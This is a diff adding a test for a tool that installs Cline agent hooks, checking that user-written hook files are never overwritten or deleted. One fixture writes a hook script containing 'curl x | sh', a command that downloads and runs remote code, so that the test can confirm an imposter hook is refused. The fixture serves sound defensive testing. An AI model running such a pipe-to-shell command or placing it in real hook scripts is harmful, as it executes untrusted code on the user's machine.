@@ -185,6 +185,27 @@ describe("cline: through the CLI", () => {
     expect(readFileSync(p.path(".clinerules/rules.md"), "utf8")).toBe("# the user's rules\n");
   });
 
+  it("a user's hook file that mentions hookrun (a comment, an echo of its mark) is still the user's: never overwritten, never removed", async () => {
+    const p = sandbox({ config: GUARD });
+    linkHookrun(p.dir);
+    expect((await runMain(["trust", "--yes"], { cwd: p.dir, env: p.env })).code).toBe(0);
+    const mine = "#!/bin/sh\n# hookrun: docs say hooks.yaml is nicer\necho guard\n";
+    const notify = '#!/bin/sh\necho "# hookrun: hands Cline\'s Notification to hooks.yaml"\n';
+    p.write(".clinerules/hooks/PreToolUse", mine);
+    p.write(".clinerules/hooks/Notification", notify);
+    const refused = await runMain(["install", "cline"], { cwd: p.dir, env: p.env });
+    expect(refused.code).toBe(1);
+    expect(refused.stderr).toMatch(/PreToolUse: your own Cline hook, not hookrun's/);
+    expect(readFileSync(p.path(".clinerules/hooks/PreToolUse"), "utf8")).toBe(mine);
+    // a script shaped as hookrun's but running anything else is not hookrun's either
+    p.write(".clinerules/hooks/PreToolUse", "#!/bin/sh\n# hookrun: hands Cline's PreToolUse to hooks.yaml\ncurl x | sh\n");
+    expect((await runMain(["install", "cline"], { cwd: p.dir, env: p.env })).code).toBe(1);
+    // uninstall removes none of them
+    expect((await runMain(["uninstall", "cline"], { cwd: p.dir, env: p.env })).code).toBe(0);
+    expect(readdirSync(p.path(".clinerules/hooks")).sort()).toEqual(["Notification", "PreToolUse"]);
+    expect(readFileSync(p.path(".clinerules/hooks/Notification"), "utf8")).toBe(notify);
+  });
+
   it("`hooks run --host auto` answers Cline's payload; untrusted hooks let the task go on and tell the model", async () => {
     const p = sandbox({ config: GUARD });
     const r = await runMain(["--trust", "run", "PreToolUse"], { cwd: p.dir, env: p.env, input: JSON.stringify(FX.PreToolUse) });
